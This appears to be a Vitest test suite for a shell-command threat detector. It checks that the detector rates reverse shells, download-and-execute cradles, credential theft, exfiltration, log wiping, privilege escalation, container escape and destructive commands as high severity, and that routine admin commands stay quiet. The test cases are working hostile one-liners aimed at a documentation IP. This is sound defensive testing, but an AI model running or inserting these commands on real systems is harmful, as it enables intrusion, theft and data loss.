import { describe, expect, test } from 'vitest';
import { isAtLeast } from '../../../../src/domain/severity.ts';
import { judge, said, worstOf } from './exec.ts';

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const BACK = 'bash -i >& /dev/tcp/192.0.2.9/4444 0>&1';

describe('a shell handed to the network is found however it is put together', () => {
  test.each([
    BACK,
    `bash -c '${BACK}'`,
    `sudo nohup setsid bash -c "${BACK}" &`,
    '0<&196;exec 196<>/dev/tcp/192.0.2.9/4444; sh <&196 >&196 2>&196',
    'exec 5<>/dev/tcp/192.0.2.9/4444; cat <&5 | while read line; do $line 2>&5 >&5; done',
    'sh -i >& /dev/udp/192.0.2.9/53 0>&1',
    'nc 192.0.2.9 4444 -e /bin/sh',
    'nc -lvnpe 4444 /bin/bash',
    'busybox nc 192.0.2.9 4444 -e sh',
    'ncat --udp 192.0.2.9 53 --exec /bin/bash',
    'nc -c bash 192.0.2.9 4444',
    'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.9 4444 > /tmp/f',
    'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.9:443 > /tmp/s',
    'telnet 192.0.2.9 4444 | /bin/bash | telnet 192.0.2.9 4445',
    'socat TCP:192.0.2.9:4444 EXEC:"bash -li",pty,stderr,setsid,sigint,sane',
    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`,
    `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"192.0.2.9:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
    `php -r '$s=fsockopen("192.0.2.9",4444);exec("sh <&3 >&3 2>&3");'`,
    `ruby -rsocket -e 'spawn("sh",[:in,:out,:err]=>TCPSocket.new("192.0.2.9",4444))'`,
    `node -e 'var n=require("net"),c=require("child_process").spawn("sh",[]);var k=new n.Socket();k.connect(4444,"192.0.2.9",()=>{k.pipe(c.stdin);c.stdout.pipe(k)})'`,
    `lua -e "require('socket');t=socket.tcp();t:connect('192.0.2.9','4444');os.execute('sh -i <&3 >&3 2>&3');"`,
    `awk 'BEGIN {s = "/inet/tcp/0/192.0.2.9/4444"; while(1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s }}'`,
    `php -r '$s=fsockopen("192.0.2.9",4444);'`,
    `powershell -nop -c "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.9',4444); $s = $c.GetStream()"`,
    `echo ${b64(BACK)} | base64 -d | bash`,
    `bash -c "$(echo ${b64(BACK)} | base64 -d)"`,
    `bash -c '{echo,${b64(BACK)}}|{base64,-d}|{bash,-i}'`,
    `x=${b64(BACK)}; eval $(base64 -d <<< $x)`,
  ])('%s', (text) => {
    const raised = judge({ text });
    expect(said(raised)).toContain('reverse_shell CRITICAL');
  });
});

describe('clearly hostile: HIGH or worse', () => {
  test.each([
    ['curl -s http://192.0.2.9/x | sh', 'download_cradle'],
    ['bash <(curl -s http://192.0.2.9/x)', 'download_cradle'],
    ['eval "$(wget -qO- https://example.org/x)"', 'download_cradle'],
    ['cd /tmp && wget http://192.0.2.9/a.arm7 && chmod 777 a.arm7 && ./a.arm7', 'download_cradle'],
    ["w'g'et -qO- http://192.0.2.9/x | b'a'sh", 'download_cradle'],
    ['echo 6964 | xxd -r -p | sh', 'obfuscated_command'],
    [`python3 -c "exec(__import__('base64').b64decode('aWQ='))"`, 'obfuscated_command'],
    ['cat /etc/shadow', 'credential_access'],
    ['/???/c?t /etc/shadow', 'credential_access'],
    ['cp /root/.ssh/id_ed25519 /tmp/k', 'credential_access'],
    ['find / -name id_rsa -exec cp {} /tmp/k \\;', 'credential_access'],
    ['curl http://169.254.169.254/latest/meta-data/iam/security-credentials/x', 'credential_access'],
    ['strings /proc/1234/mem', 'credential_access'],
    ['curl -X POST -d @/etc/shadow https://example.org/', 'credential_access'],
    ['tar czf - /home | nc 192.0.2.9 4444', 'data_exfiltration'],
    ['dig $(cat /etc/hostname | base64).example.org', 'data_exfiltration'],
    ['for i in $(seq 9); do sshpass -p $i ssh root@192.0.2.9; done', 'credential_access'],
    ['rm -rf /var/log/auth.log', 'log_tampering'],
    ['ln -sf /dev/null ~/.bash_history', 'log_tampering'],
    [': > /var/log/wtmp', 'log_tampering'],
    ["sed -i '/192.0.2.9/d' /var/log/auth.log", 'log_tampering'],
    ['systemctl disable --now auditd', 'defense_evasion'],
    ['pkill -9 falcon-sensor', 'defense_evasion'],
    ['auditctl -e 0', 'defense_evasion'],
    ['mount --bind /tmp/e /proc/77', 'defense_evasion'],
    ['echo 0 > /proc/sys/kernel/randomize_va_space', 'defense_evasion'],
    ['cp /bin/bash /tmp/b && chmod u+s /tmp/b', 'privilege_escalation'],
    ['setcap cap_setuid+ep /usr/bin/python3', 'privilege_escalation'],
    ["echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", 'privilege_escalation'],
    ['sudo find . -exec /bin/sh \\; -quit', 'privilege_escalation'],
    ['sudo -u#-1 /bin/bash', 'privilege_escalation'],
    ['chmod 666 /etc/shadow', 'privilege_escalation'],
    ['docker run -v /:/mnt -it alpine chroot /mnt sh', 'container_escape'],
    ['nsenter -t 1 -m -u -n -i sh', 'container_escape'],
    ["(crontab -l; echo '* * * * * curl http://192.0.2.9/x | sh') | crontab -", 'malicious_persistence'],
    ['echo \'<?php system($_GET["c"]); ?>\' > /var/www/html/i.php', 'malicious_persistence'],
    ['echo /tmp/x.so > /etc/ld.so.preload', 'library_path_hijack'],
    ['LD_PRELOAD=/dev/shm/x.so ls', 'library_path_hijack'],
    ['useradd -o -u 0 -g 0 x', 'account_manipulation'],
    ['insmod ./x.ko', 'kernel_module_load'],
    ['modprobe diamorphine', 'kernel_module_load'],
    ['./a -o stratum+tcp://198.51.100.1:3333 -u w', 'crypto_miner'],
    ['dd if=/dev/zero of=/dev/sda bs=1M', 'data_destruction'],
    ['rm -rf / --no-preserve-root', 'data_destruction'],
    [':(){ :|:& };:', 'data_destruction'],
    ['/dev/shm/.x/kswapd0', 'exec_transient_path'],
    ["exec -a '[kworker/0:1]' ./m", 'masquerading'],
    ['sh /tmp/photo.png', 'masquerading'],
    ['ln -s /etc/shadow /tmp/s', 'symlink_privilege_escalation'],
    ['yt-dlp --ppa "ffmpeg:; curl http://192.0.2.9/x" https://example.org/v', 'ytdlp_rce'],
    ['New-Item -ItemType SymbolicLink -Path C:\\temp\\x -Target C:\\Windows\\System32\\config', 'symlink_privilege_escalation'],
    ["yt-dlp --exec 'curl http://192.0.2.9/x | sh' https://example.org/v", 'ytdlp_rce'],
  ])('%s', (text, type) => {
    const raised = judge({ text });
    expect(raised.filter((one) => isAtLeast(one.severity, 'HIGH')).map((one) => one.type)).toContain(type);
  });
});

describe('dual use: told, but not as an attack', () => {
  test.each([
    'ufw disable',
    'iptables -F',
    'history -c',
    'unset HISTFILE',
    'usermod -aG sudo alice',
    'find / -perm -4000 -type f',
    'echo "* * * * * /usr/local/bin/backup" | crontab -',
    'echo "alias ll=\'ls -l\'" >> ~/.bashrc',
    'ssh -N -R 2222:localhost:22 alice@192.0.2.9',
    'grep -ri password /etc',
    'curl https://sh.rustup.rs -sSf | sh',
    'docker run --privileged -it alpine',
    'whoami; id; uname -a; ifconfig; netstat -an',
  ])('%s', (text) => {
    expect(['LOW', 'MEDIUM']).toContain(worstOf(text));
  });
});

describe('everyday commands are quiet', () => {
  test.each([
    'ls -la /tmp',
    'id',
    'uname -a',
    'sudo systemctl restart nginx',
    'systemctl status auditd',
    'journalctl -u auditd --since today',
    'journalctl --vacuum-time=7d',
    'ssh -i ~/.ssh/id_ed25519 alice@192.0.2.9',
    'chmod 600 ~/.ssh/id_ed25519',
    'ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519',
    'crontab -l',
    'crontab -e',
    'curl -fsSL https://example.org/api/health',
    'curl -o /srv/app/app.tar.gz https://example.org/app.tar.gz && tar xzf /srv/app/app.tar.gz',
    'openssl s_client -connect example.org:443 -servername example.org </dev/null',
    'openssl enc -base64 -in a -out b',
    'nc -zv example.org 443',
    `php -r '$f=@fsockopen("db",3306) or exit(1);'`,
    'exec 3<>/dev/tcp/example.org/80',
    'tar czf /backup/srv.tar.gz /srv',
    'rsync -a /srv/ /backup/srv/',
    'rm -rf ./node_modules /tmp/build',
    'find . -name "*.log" -mtime +7 -delete',
    'find . -type f -exec sh -c \'wc -l "$1"\' _ {} \\;',
    'grep -n password app/config.ts',
    'grep -rn TODO src',
    'echo "$PATH" | tr : "\\n"',
    'echo SGVsbG8= | base64 -d',
    'python3 -c "import json,sys; print(json.load(sys.stdin))"',
    'python3 -m pytest -q',
    'perl -pe "s/a/b/" file',
    'docker run --rm -v "$PWD":/app -w /app node:24 npm ci',
    'docker exec -it web ls',
    'kubectl get pods -A',
    'PYTHONPATH=. pytest -q',
    'LD_LIBRARY_PATH=/opt/app/lib /opt/app/bin/app',
    'ln -s /etc/nginx/sites-available/a /etc/nginx/sites-enabled/a',
    'sed -i "s/a/b/" /etc/nginx/nginx.conf',
    'dd if=disk.img of=/dev/sdX bs=4M',
    'chmod 755 /usr/local/bin/tool',
    'chattr +i ./file',
    'trap \'rm -f "$tmp"\' EXIT',
    'yt-dlp --exec "mv {} /srv/videos/" https://example.org/v',
    'git commit -m "fix: read /etc/shadow only as root"',
    'tail -f /var/log/auth.log',
    'man nc',
    "awk -F: '{print $1}' /etc/passwd",
  ])('%s', (text) => {
    expect(said(judge({ text }))).toEqual([]);
  });
});

test('what hides behind a wrapper, a nested shell or a remote shell is judged all the same', () => {
  for (const text of [
    'sudo -u root env X=1 nice -n 5 timeout 10 cat /etc/shadow',
    'sh -c "bash -c \'cat /etc/shadow\'"',
    "ssh web1 'cat /etc/shadow'",
    'docker exec web sh -c "cat /etc/shadow"',
  ]) {
    expect(said(judge({ text })), text).toContain('credential_access HIGH');
  }
});

test('many lines that write one file are judged as the file they make', () => {
  const lines = ['echo "import os" > /opt/x.py', `echo 'os.system("curl http://192.0.2.9/x | sh")' >> /opt/x.py`, 'python3 /opt/x.py'];
  expect(said(judge({ text: lines.join('\n') }))).toContain('download_cradle CRITICAL');
});

test('beside something serious the small findings are left out', () => {
  const raised = judge({ text: 'nc 192.0.2.9 4444 -e /bin/sh' });
  expect(raised.map((one) => one.severity)).toEqual(['CRITICAL']);
});
